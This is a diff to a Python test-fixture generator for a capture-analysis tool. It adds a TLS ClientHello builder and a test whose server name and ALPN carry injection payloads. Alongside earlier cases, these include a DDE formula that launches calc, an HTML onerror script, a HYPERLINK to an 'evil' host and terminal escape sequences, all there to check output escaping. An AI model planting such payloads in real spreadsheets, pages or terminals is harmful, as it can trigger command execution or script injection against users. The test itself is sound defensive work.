@@ -272,11 +272,23 @@ def ssh_framing():
 EVIL = b"=HYPERLINK(\"http://x/\"&A1)\x1b]8;;http://evil/\x1b\\<img src=x onerror=alert(1)>"
 
 
+def client_hello(sni, alpn):
+    """A TLS 1.2 ClientHello record naming sni and offering alpn."""
+    name = struct.pack("!BH", 0, len(sni)) + sni
+    ext = struct.pack("!HHH", 0, len(name) + 2, len(name)) + name
+    proto = bytes([len(alpn)]) + alpn
+    ext += struct.pack("!HHH", 16, len(proto) + 2, len(proto)) + proto
+    body = b"\x03\x03" + b"\x22" * 32 + b"\x00" + b"\x00\x02\x13\x01" + b"\x01\x00"
+    body += struct.pack("!H", len(ext)) + ext
+    hs = b"\x01" + struct.pack("!I", len(body))[1:] + body
+    return b"\x16\x03\x01" + struct.pack("!H", len(hs)) + hs
+
+
 def inject():
     """Injection through every capture string reaching the outputs: banners
     starting with = + - @ and a tab, HTML markup and OSC 8 hyperlinks in
-    banners, algorithm names, an HTTP host, a TLS SNI-less hello and DNS
-    names (A and TXT): CSV cells never start a formula, HTML never carries
+    banners, algorithm names, an HTTP host, a TLS server name and ALPN and
+    DNS names (A and TXT): CSV cells never start a formula, HTML never carries
     markup from the capture, terminals get no escape."""
     frames = []
     for i, lead in enumerate((b"=", b"+", b"-", b"@", b"\t=", b"\r=")):
@@ -295,6 +307,11 @@ def inject():
     w.send(False, b"HTTP/1.1 200 OK\r\nServer: @SUM(1+1)*cmd|' /C calc'!A0\r\nContent-Length: 2\r\n\r\nok")
     w.close()
     frames += [(t + 10, f) for t, f in w.frames]
+    t = Conn(43092, dp=443)
+    t.handshake()
+    t.send(True, client_hello(b"=cmd|' /C calc'!A0\x1b]0;pwn\x07<b>.example", b"h2\x1b[2J=1+1"))
+    t.close()
+    frames += [(tt + 15, f) for tt, f in t.frames]
     q = struct.pack("!HHHHHH", 0x1234, 0x8180, 1, 2, 0, 0)
     name = b"".join(bytes([len(x)]) + x for x in (b"=cmd|' /C calc'!A0", b"<b>x</b>", b"\x1b[31m", b"com")) + b"\0"
     txt = b"=2+5+cmd|' /C calc'!A0 <script>" + b"\x1b]0;t\x07"
